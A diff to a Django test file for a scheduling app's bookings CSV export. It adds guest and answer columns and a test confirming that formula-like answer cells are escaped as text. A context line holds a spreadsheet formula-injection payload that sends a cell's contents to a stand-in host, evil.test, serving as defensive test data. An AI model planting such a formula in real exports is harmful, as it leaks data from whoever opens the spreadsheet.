@@ -11,6 +11,8 @@ from django.test import Client
 
 from slotlink.scheduling.booking_list import ROWS_PER_PAGE
 from slotlink.scheduling.models import Booking, EventType
+from slotlink.scheduling.questions.answers import answer_for
+from slotlink.scheduling.questions.services import question_add
 from slotlink.scheduling.services.bookings import booking_cancel
 from tests.scheduling.builders import book, make_event_type, many_bookings, next_free_starts
 
@@ -20,7 +22,7 @@ HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&B2,"Click me")'
 HEADER = (
     "booking id,group session id,status,start,end,time zone,event type,host,host email,"
     "invitee name,invitee email,invitee phone,invitee time zone,location,"
-    "cancellation reason,booked at\r\n"
+    "cancellation reason,booked at,guests,answers\r\n"
 )
 
 
@@ -131,3 +133,30 @@ def test_the_file_holds_exactly_the_filtered_bookings_of_every_page(
         str(gone.id)
     ]
     assert "Many 0003" not in [line["invitee name"] for line in lines(export(member_client))]
+
+
+def test_each_line_has_its_invitees_answers_and_guests_and_no_cell_runs(
+    member_client, organization, host
+):
+    """The answers given are one cell, a line per question ("Question: answer"), the
+    guests another; an answer cell that starts like a formula (the host's question
+    "=Budget?") is kept as text."""
+    call = make_event_type(organization, host, slug="asks")
+    budget = question_add(
+        event_type=call, kind="short_text", label="=Budget?", required=False, options=[]
+    )
+    size = question_add(
+        event_type=call,
+        kind="multiple_choice",
+        label="Interests",
+        required=False,
+        options=["Pricing", "API"],
+    )
+    book(
+        call,
+        answers=(answer_for(budget, "-5 or +5"), answer_for(size, ["Pricing", "API"])),
+        guests=("ann@example.test", "bo@example.test"),
+    )
+    (line,) = lines(export(member_client))
+    assert line["answers"] == "'=Budget?: -5 or +5\nInterests: Pricing, API"
+    assert line["guests"] == "ann@example.test, bo@example.test"
